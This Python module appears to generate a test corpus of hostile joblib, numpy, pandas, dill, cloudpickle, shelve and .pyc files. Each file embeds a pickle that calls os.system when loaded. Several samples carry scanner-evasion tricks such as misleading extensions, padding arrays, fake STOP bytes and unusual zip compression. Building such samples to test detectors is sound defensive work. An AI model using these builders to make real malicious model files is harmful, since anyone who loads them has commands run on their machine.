"""joblib, numpy and compressed pickles."""

from __future__ import annotations

import bz2
import gzip
import lzma
import zlib
from typing import Any

from .asm import Build, Call, Global, New, Raw, encode, pickled
from .pickle_opcodes import NAMED, SYSTEM
from .sample import ABUSES, EXECUTES, MALFORMED, Kit, Maker, Sample
from .zipper import Entry, zipped

G, C = Global, Call


def samples() -> list[Sample]:
    """All of this module."""
    return [*_compressed(), *_arrays(), *_numpy(), *_other_loaders()]


def hostile(kit: Kit, protocol: int = 4) -> bytes:
    """os.system of the payload."""
    return pickled({"state": C(SYSTEM, kit.shell)}, protocol)


def _sample(path: str, technique: str, make: Maker, loader: str, **options: Any) -> Sample:
    options.setdefault("calls", NAMED)
    options.setdefault("needs", (loader,) if loader in ("joblib", "numpy", "pandas", "dill") else ())
    return Sample(path, technique, EXECUTES, make, loader=loader, **options)


def _xz(data: bytes) -> bytes:
    return lzma.compress(data, format=lzma.FORMAT_XZ)


def _lzma(data: bytes) -> bytes:
    return lzma.compress(data, format=lzma.FORMAT_ALONE)


def _gzip(data: bytes) -> bytes:
    return gzip.compress(data, mtime=0)


def _lz4(data: bytes) -> bytes:
    import lz4.frame

    packed: bytes = lz4.frame.compress(data)
    return packed


COMPRESSORS = {"zlib": zlib.compress, "gzip": _gzip, "bz2": bz2.compress, "lzma": _lzma, "xz": _xz}


def _compressed() -> list[Sample]:
    found = [
        _sample(
            f"joblib/{name}.joblib", f"joblib file compressed with {name}", lambda k, p=pack: p(hostile(k)), "joblib"
        )
        for name, pack in COMPRESSORS.items()
    ]
    return [
        *found,
        _sample("joblib/plain.joblib", "joblib file, not compressed", hostile, "joblib"),
        _sample("joblib/lz4.joblib", "joblib file compressed with lz4", lambda k: _lz4(hostile(k)), "joblib",
                needs=("joblib", "lz4"), builder="lz4"),
        _sample("joblib/zfile.pkl", "joblib file of before 0.9.3 (ZF header)", lambda k: _zfile(hostile(k, 2)), "joblib"),
        _sample("joblib/compat-pickle.pkl", "joblib file of before 0.9.3 without compression: a stray wrapper first",
                lambda k: pickled([C(SYSTEM, k.shell)], 2), "joblib"),
        Sample("joblib/zlib-trailing.joblib", "zlib with bytes after the stream: joblib 1.6 never returns", ABUSES,
               lambda k: zlib.compress(hostile(k)) + b"\x00" * 64, calls=NAMED),
        _sample("joblib/zlib-level-0.joblib", "zlib without compression: the header byte differs",
                lambda k: zlib.compress(hostile(k), 0), "joblib"),
        _sample("joblib/gzip-name.joblib", "gzip with a file name and comment in its header", _gzip_named, "joblib"),
        _sample("compressed/gzip-members.pkl.gz", "the pickle is spread over three gzip members",
                lambda k: b"".join(_gzip(part) for part in _thirds(hostile(k))), "gzip-pickle"),
        _sample("joblib/wrong-extension.npy", "a joblib zlib file named .npy", lambda k: zlib.compress(hostile(k)), "joblib"),
        _sample("compressed/pickle.pkl.gz", "gzip around a pickle", lambda k: _gzip(hostile(k)), "gzip-pickle"),
        _sample("compressed/pandas.pkl.bz2", "pandas.read_pickle of bz2", lambda k: bz2.compress(hostile(k)), "pandas"),
        _sample("compressed/pandas.pkl.xz", "pandas.read_pickle of xz", lambda k: _xz(hostile(k)), "pandas"),
        Sample("compressed/pandas.pkl.zst", "pandas.read_pickle of zstd", EXECUTES, lambda k: _zstd(hostile(k)), calls=NAMED,
               unloaded="pandas reads it where zstandard is installed beside it: no environment of the corpus has both", builder="zstandard"),
        Sample("compressed/zstd-member.zip", "a zip member compressed with zstd (method 93)", EXECUTES, lambda k: zipped(
            [Entry("model.pkl", hostile(k), packed=_zstd(hostile(k)), method=93)]), calls=NAMED, unloaded=UNPACKED, builder="zstandard"),
        Sample("compressed/deflate64-member.zip", "a zip member compressed with deflate64 (method 9)", EXECUTES, lambda k: zipped(
            [Entry("model.pkl", hostile(k), packed=_huffman_only(hostile(k)), method=9)]), calls=NAMED, unloaded=UNPACKED),
        Sample("compressed/unknown-member.zip", "a zip member of a method that nothing here reads (PPMd, 98)", MALFORMED, lambda k: zipped(
            [Entry("model.pkl", hostile(k), packed=_huffman_only(hostile(k)), method=98)])),
        _sample("compressed/pandas.pkl.zip", "pandas.read_pickle of zip", lambda k: zipped([Entry("frame.pkl", hostile(k))]), "pandas"),
        _sample("compressed/pandas.pkl.tar", "pandas.read_pickle of tar", _tar, "pandas"),
        _sample("compressed/pandas-exception.pkl", "the first attempt raises ImportError, pandas then tries its own unpickler",
                lambda k: pickled([C(SYSTEM, k.shell), C(G("no_such_module.X"))], 2), "pandas"),
        _sample("compressed/dill.pkl", "dill.load", hostile, "dill"),
        _sample("compressed/dill-function.pkl", "dill rebuilds a function from its code", _dill_function, "dill",
                calls=("dill._dill._create_function", "dill._dill._create_code", "builtins.compile"), builder="dill"),
        _sample("compressed/cloudpickle-function.pkl", "cloudpickle rebuilds a lambda from its code and calls it", _cloudpickle_function,
                "pickle", calls=("cloudpickle.cloudpickle._make_function", "types.CodeType", "cloudpickle.cloudpickle._builtin_type"),
                builder="cloudpickle", needs=("cloudpickle",)),
    ]  # fmt: skip


UNPACKED = "runs once somebody unpacks it and loads what comes out; Python's own zipfile does not read this method"


def _zstd(data: bytes) -> bytes:
    import zstandard

    return zstandard.ZstdCompressor(level=3).compress(data)


def _huffman_only(data: bytes) -> bytes:
    """Deflate without matches: the same bits in deflate64."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15, strategy=zlib.Z_HUFFMAN_ONLY)
    return packer.compress(data) + packer.flush()


def _thirds(data: bytes) -> list[bytes]:
    third = len(data) // 3
    return [data[:third], data[third : 2 * third], data[2 * third :]]


def _gzip_named(kit: Kit) -> bytes:
    plain = _gzip(hostile(kit))
    return plain[:3] + b"\x18" + plain[4:10] + b"model.safetensors\x00harmless\x00" + plain[10:]


def _zfile(data: bytes) -> bytes:
    return b"ZF" + hex(len(data)).encode().ljust(len(hex(1 << 64))) + zlib.compress(data)


def _tar(kit: Kit) -> bytes:
    from .archives_torch import tarred

    return tarred({"frame.pkl": hostile(kit)})


def _dill_function(kit: Kit) -> bytes:
    import dill

    function = eval(f"lambda: {kit.code}", {"__builtins__": __builtins__, "__name__": "__main__"})
    return pickled(C(Raw(_without_ends(dill.dumps(function, protocol=4)))), 4)


def _without_ends(data: bytes) -> bytes:
    """Opcodes between the header (PROTO, FRAME) and STOP."""
    return data[11:-1] if data[2:3] == b"\x95" else data[2:-1]


def _cloudpickle_function(kit: Kit) -> bytes:
    import cloudpickle

    function = eval(f"lambda: {kit.code}", {"__builtins__": __builtins__, "__name__": "__main__"})
    return pickled(C(Raw(_without_ends(cloudpickle.dumps(function, protocol=4)))), 4)


def _wrapper(dtype: Any, shape: tuple[int, ...], **state: Any) -> Build:
    """joblib's NumpyArrayWrapper: the array's bytes follow its BUILD."""
    fields = {"subclass": G("numpy.ndarray"), "shape": shape, "order": "C", "dtype": dtype, "allow_mmap": False}
    return Build(New(G("joblib.numpy_pickle.NumpyArrayWrapper")), {**fields, **state})


def _dtype(code: str) -> Call:
    return C(G("numpy.dtype"), code, False, True)


def _arrays() -> list[Sample]:
    """joblib writes array bytes between the opcodes."""

    def with_data(wrapper: Build, data: bytes) -> Raw:
        return Raw(encode(wrapper, 4) + data)

    numbers = bytes(range(16))
    padded = b"\x02\xff\xff" + numbers
    return [
        _sample("joblib/array-object.joblib", "an object array: its bytes are a nested pickle", lambda k: pickled(
            with_data(_wrapper(_dtype("O"), (1,)), hostile(k)), 4), "joblib"),
        _sample("joblib/array-object-compressed.joblib", "an object array in a zlib file", lambda k: zlib.compress(pickled(
            with_data(_wrapper(_dtype("O"), (1,)), hostile(k)), 4)), "joblib"),
        _sample("joblib/array-structured.joblib", "a structured dtype with an object field", lambda k: pickled(
            with_data(_wrapper(C(G("numpy.dtype"), [("a", "i4"), ("b", "O")]), (1,)), hostile(k)), 4), "joblib"),
        _sample("joblib/array-forged-dtype.joblib", "the dtype is any object that says it has objects", lambda k: pickled(
            with_data(_wrapper(Build(C(G("types.SimpleNamespace")), {"hasobject": True}), ()), hostile(k)), 4), "joblib",
            calls=(*NAMED, "types.SimpleNamespace")),
        _sample("joblib/after-array.joblib", "the call stands after an array's bytes", lambda k: pickled(
            [with_data(_wrapper(_dtype("u1"), (16,)), numbers), C(SYSTEM, k.shell)], 4), "joblib"),
        _sample("joblib/after-padded-array.joblib", "the call stands after an aligned array's bytes", lambda k: pickled(
            [with_data(_wrapper(_dtype("u1"), (16,), numpy_array_alignment_bytes=16), padded), C(SYSTEM, k.shell)], 4), "joblib"),
        _sample("joblib/between-arrays.joblib", "the call stands between two arrays whose bytes look like STOP", lambda k: pickled(
            [with_data(_wrapper(_dtype("u1"), (16,)), b"." * 16), C(SYSTEM, k.shell), with_data(_wrapper(_dtype("u1"), (16,)), b"." * 16)], 4),
            "joblib"),
        _sample("joblib/array-of-opcodes.joblib", "array bytes that hold a harmless-looking STOP, then the call", lambda k: pickled(
            [with_data(_wrapper(_dtype("f8"), (2,)), b"N.N.N.N.N.N.N.N."), C(SYSTEM, k.shell)], 4), "joblib"),
        _sample("joblib/large-array.joblib", "the call stands after 8 MB of array", lambda k: pickled(
            [with_data(_wrapper(_dtype("u1"), (8 << 20,)), bytes(8 << 20)), C(SYSTEM, k.shell)], 4), "joblib"),
        _sample("joblib/array-then-truncated.joblib", "the stream ends after the call", lambda k: pickled(
            [with_data(_wrapper(_dtype("u1"), (16,)), numbers), C(SYSTEM, k.shell)], 4)[:-2], "joblib"),
        _sample("joblib/shape-from-call.joblib", "the array's shape is the result of a call", lambda k: pickled(
            _wrapper(_dtype("u1"), (C(G("operator.add"), C(SYSTEM, k.shell), 0),)), 4), "joblib"),
        _sample("joblib/compat-external.pkl", "an NDArrayWrapper names a neighbouring .npy of objects", lambda k: _zfile(pickled(
            Build(New(G("joblib.numpy_pickle_compat.NDArrayWrapper")), {"filename": "neighbour.npy", "subclass": G("numpy.ndarray")}), 2)),
            "joblib", extra={"neighbour.npy": lambda k: npy(hostile(k))}, calls=(*NAMED, "joblib.numpy_pickle_compat.NDArrayWrapper")),
    ]  # fmt: skip


def npy(
    data: bytes, *, version: bytes = b"\x01\x00", descr: str = "'|O'", shape: str = "(1,)", header: str = ""
) -> bytes:
    """An .npy file of an object array whose bytes are `data`."""
    text = header or f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}"
    width = 2 if version == b"\x01\x00" else 4
    raw = text.encode()
    raw += b" " * (-(len(raw) + 9 + width) % 64) + b"\n"
    return b"\x93NUMPY" + version + len(raw).to_bytes(width, "little") + raw + data


def _numpy() -> list[Sample]:
    return [
        _sample("numpy/object.npy", "an object array", lambda k: npy(hostile(k)), "numpy"),
        _sample("numpy/object-v2.npy", "an object array, header version 2", lambda k: npy(hostile(k), version=b"\x02\x00"), "numpy"),
        _sample("numpy/object-v3.npy", "an object array, header version 3", lambda k: npy(hostile(k), version=b"\x03\x00"), "numpy"),
        _sample("numpy/structured.npy", "a structured array with an object field",
                lambda k: npy(hostile(k), descr="[('a', '<i4'), ('b', '|O')]"), "numpy"),
        _sample("numpy/zero-shape.npy", "an object array of shape (0,) still unpickles", lambda k: npy(hostile(k), shape="(0,)"), "numpy"),
        _sample("numpy/pickle.npy", "a bare pickle named .npy", hostile, "numpy"),
        _sample("numpy/member.npz", "one of three members is an object array", lambda k: zipped(
            [Entry("a.npy", npy(bytes(8), descr="'<f8'")), Entry("b.npy", npy(hostile(k))), Entry("c.npy", npy(bytes(8), descr="'<f8'"))]),
            "numpy"),
        _sample("numpy/deflated.npz", "a deflated member", lambda k: zipped([Entry("a.npy", npy(hostile(k)), deflate=True)]), "numpy"),
        _sample("numpy/no-suffix.npz", "a member without .npy suffix", lambda k: zipped([Entry("weights", npy(hostile(k)))]), "numpy"),
        Sample("numpy/bare-pickle-member.npz", "a bare pickle as a member: numpy returns its bytes", ABUSES,
               lambda k: zipped([Entry("a.npy", npy(bytes(8), descr="'<f8'")), Entry("b.pkl", hostile(k))]), calls=NAMED),
        _sample("numpy/named-safetensors.safetensors", "an object array under another extension", lambda k: npy(hostile(k)), "numpy"),
    ]  # fmt: skip


def _other_loaders() -> list[Sample]:
    return [
        _sample("compressed/shelf.dat", "a shelf (dbm.dumb) whose value is a pickle", hostile, "shelve",
                extra={"shelf.dir": lambda k: f"'a', (0, {len(hostile(k))})\n".encode()}),
        _sample("compressed/module.pyc", "compiled Python: loading it is running it", _pyc, "pyc", calls=("pyc", "open", "code")),
    ]  # fmt: skip


def _pyc(kit: Kit) -> bytes:
    import importlib.util
    import marshal

    return importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(compile(kit.code, "payload.py", "exec"))
